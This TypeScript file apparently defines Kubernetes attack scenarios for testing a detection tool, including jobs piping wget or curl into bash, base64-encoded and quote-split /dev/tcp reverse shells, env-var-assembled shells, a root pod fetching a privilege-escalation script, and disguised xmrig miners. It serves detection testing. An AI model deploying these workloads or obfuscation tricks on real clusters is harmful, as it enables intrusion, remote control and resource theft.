import type { Scenario } from '../types.js';
import { compromisedDeveloper } from './actors.js';
import { appsWorkload, container, cronJob, job, pod, shell } from './manifests.js';
import { stolenBuildAgentToken } from './seeds.js';
import { applyClientSide, create, patch } from './steps.js';

const b64 = (text: string): string => Buffer.from(text).toString('base64');

// A made-up Monero address: the right length and alphabet, owned by nobody.
const WALLET =
  '48yNDc5dPK3fWJVXpNmGMTzQwXbk4cTiSQJa7Xn2LZSJeBwGvCmH9rkT6yVPd8EiS3aF5Lq2CXnTbYwRz4JvKpM7UhQnEx2';

const logRotate = cronJob({ name: 'log-rotate', namespace: 'ops' }, '*/10 * * * *', {
  containers: [
    container('log-rotate', 'curlimages/curl:8.7.1', {
      ...shell('curl -so /tmp/.lr http://198.51.100.77/lr && chmod +x /tmp/.lr && /tmp/.lr'),
    }),
  ],
  restartPolicy: 'OnFailure',
});

const base = {
  technique: 'T1053.007',
  kind: 'attack' as const,
  expect: { minSeverity: 'medium' as const },
};

/** Downloaders, encoded and obfuscated commands, and miners. */
export const PAYLOAD_SCENARIOS: Scenario[] = [
  {
    ...base,
    id: 'download-wget-bash-job',
    title: 'Job piping wget -O- into bash',
    description:
      'A stolen CI token creates a "maintenance" Job that installs wget and runs a remote script.',
    evasionClass: 'wget -O- | bash',
    steps: [
      create(
        stolenBuildAgentToken,
        job(
          { name: 'db-maintenance', namespace: 'data' },
          {
            containers: [
              container('maintenance', 'debian:12-slim', {
                ...shell(
                  'apt-get update -qq && apt-get install -y -qq wget && wget -qO- http://203.0.113.9/x | bash',
                  '/bin/bash',
                ),
              }),
            ],
            restartPolicy: 'Never',
          },
        ),
        { followUps: 1 },
      ),
    ],
  },
  {
    ...base,
    id: 'download-chmod-exec-ssa-cronjob',
    title: 'Server-side apply creates a CronJob that downloads, chmods and runs a binary',
    description:
      'kubectl apply --server-side of a new CronJob: verb patch, code 201, the apply body as requestObject.',
    evasionClass: 'server-side apply create (patch 201) + chmod +x',
    steps: [patch(compromisedDeveloper, logRotate, 'apply', logRotate, { followUps: 2 })],
  },
  {
    ...base,
    technique: 'T1610',
    id: 'root-privesc-downloader-pod',
    title: 'Root pod allowing privilege escalation runs a downloaded exploit',
    description:
      'runAsUser 0 and allowPrivilegeEscalation true, then curl fetches and runs a local-privilege-escalation script.',
    evasionClass: 'runAsUser 0 + allowPrivilegeEscalation + downloader',
    steps: [
      applyClientSide(
        compromisedDeveloper,
        pod(
          { name: 'debug-tools', namespace: 'payments' },
          {
            containers: [
              container('debug', 'ubuntu:22.04', {
                ...shell(
                  'apt-get update && apt-get install -y curl && curl -s http://198.51.100.77/lpe.sh -o /tmp/lpe.sh && bash /tmp/lpe.sh',
                  '/bin/bash',
                ),
                securityContext: { runAsUser: 0, allowPrivilegeEscalation: true },
              }),
            ],
            restartPolicy: 'Never',
          },
        ),
      ),
    ],
  },
  {
    ...base,
    id: 'base64-args-cronjob',
    title: 'CronJob decoding a base64 reverse shell into bash',
    description:
      'echo <base64> | base64 -d | bash: the words an analyst would grep for never appear in clear.',
    evasionClass: 'base64 payload in args',
    steps: [
      create(
        compromisedDeveloper,
        cronJob({ name: 'metrics-flush', namespace: 'monitoring' }, '*/5 * * * *', {
          containers: [
            container('flush', 'bash:5.2', {
              ...shell(
                `echo ${b64('bash -i >& /dev/tcp/203.0.113.47/4444 0>&1')} | base64 -d | bash`,
                'bash',
              ),
            }),
          ],
          restartPolicy: 'OnFailure',
        }),
        { followUps: 2 },
      ),
    ],
  },
  {
    ...base,
    id: 'base64-env-var-job',
    title: 'Job keeping its payload base64-encoded in an env var',
    description:
      'The command is only echo $P | base64 -d | sh; the downloader sits encoded in env P.',
    evasionClass: 'base64 payload in an env var',
    steps: [
      create(
        compromisedDeveloper,
        job(
          { name: 'config-sync', namespace: 'platform' },
          {
            containers: [
              container('sync', 'alpine:3.19', {
                env: [{ name: 'P', value: b64('wget -qO- http://203.0.113.9/s | sh') }],
                ...shell('echo $P | base64 -d | sh'),
              }),
            ],
            restartPolicy: 'Never',
          },
        ),
        { followUps: 1 },
      ),
    ],
  },
  {
    ...base,
    id: 'quote-split-obfuscation-cronjob',
    title: 'CronJob hiding bash and /dev/tcp with quote splitting',
    description:
      "b'a'sh -i >& /dev/tc''p/…: the shell joins the pieces, a substring search does not.",
    evasionClass: 'quote-split obfuscation',
    steps: [
      create(
        compromisedDeveloper,
        cronJob({ name: 'tmp-cleaner', namespace: 'default' }, '*/5 * * * *', {
          containers: [
            container('cleaner', 'bash:5.2', {
              ...shell("b'a'sh -i >& /dev/tc''p/203.0.113.47/4444 0>&1", 'bash'),
            }),
          ],
          restartPolicy: 'OnFailure',
        }),
        { followUps: 2 },
      ),
    ],
  },
  {
    ...base,
    id: 'k8s-var-expansion-job',
    title: 'Job assembling its shell from $(VAR) expansion',
    description:
      'Kubernetes substitutes $(SHELL_BIN) and $(TARGET) from env before the container starts, so the command array never names bash or /dev/tcp.',
    evasionClass: '$(VAR) Kubernetes expansion',
    steps: [
      create(
        compromisedDeveloper,
        job(
          { name: 'schema-check', namespace: 'data' },
          {
            containers: [
              container('check', 'bash:5.2', {
                command: ['$(SHELL_BIN)', '-c', '$(SHELL_BIN) -i >& $(TARGET) 0>&1'],
                env: [
                  { name: 'SHELL_BIN', value: '/usr/local/bin/bash' },
                  { name: 'TARGET', value: '/dev/tcp/198.51.100.10/443' },
                ],
              }),
            ],
            restartPolicy: 'Never',
          },
        ),
        { followUps: 1 },
      ),
    ],
  },
  {
    ...base,
    technique: 'T1496',
    id: 'miner-xmrig-image-daemonset',
    title: 'DaemonSet running the xmrig miner image on every node',
    description:
      'A kube-system DaemonSet named like a metrics agent, from a public xmrig image, tolerating every taint.',
    evasionClass: 'miner image',
    steps: [
      create(
        stolenBuildAgentToken,
        appsWorkload(
          'DaemonSet',
          { name: 'kube-metrics-agent', namespace: 'kube-system' },
          {
            containers: [
              container('agent', 'miningcontainers/xmrig:latest', {
                args: [
                  '--url=pool.supportxmr.com:443',
                  `--user=${WALLET}`,
                  '--tls',
                  '--cpu-max-threads-hint=75',
                ],
                resources: { requests: { cpu: '100m', memory: '64Mi' } },
              }),
            ],
            tolerations: [{ operator: 'Exists' }],
          },
        ),
        { followUps: 2 },
      ),
    ],
  },
  {
    ...base,
    technique: 'T1496',
    id: 'miner-pool-address-generic-image-cronjob',
    title: 'Miner on a generic image, visible only by pool URL and --donate-level',
    description:
      'ubuntu:22.04 running a renamed binary; the stratum+tcp pool and the xmrig-only --donate-level flag give it away.',
    evasionClass: 'miner by pool address and --donate-level',
    steps: [
      create(
        compromisedDeveloper,
        cronJob({ name: 'perf-benchmark', namespace: 'ml-training' }, '*/20 * * * *', {
          containers: [
            container('bench', 'ubuntu:22.04', {
              command: [
                '/opt/bench/kworker',
                '-o',
                'stratum+tcp://pool.minexmr.com:4444',
                '-u',
                WALLET,
                '--donate-level',
                '1',
                '--background',
              ],
              resources: {
                requests: { cpu: '3500m', memory: '2Gi' },
                limits: { cpu: '4', memory: '2Gi' },
              },
            }),
          ],
          restartPolicy: 'OnFailure',
        }),
        { followUps: 2 },
      ),
    ],
  },
];
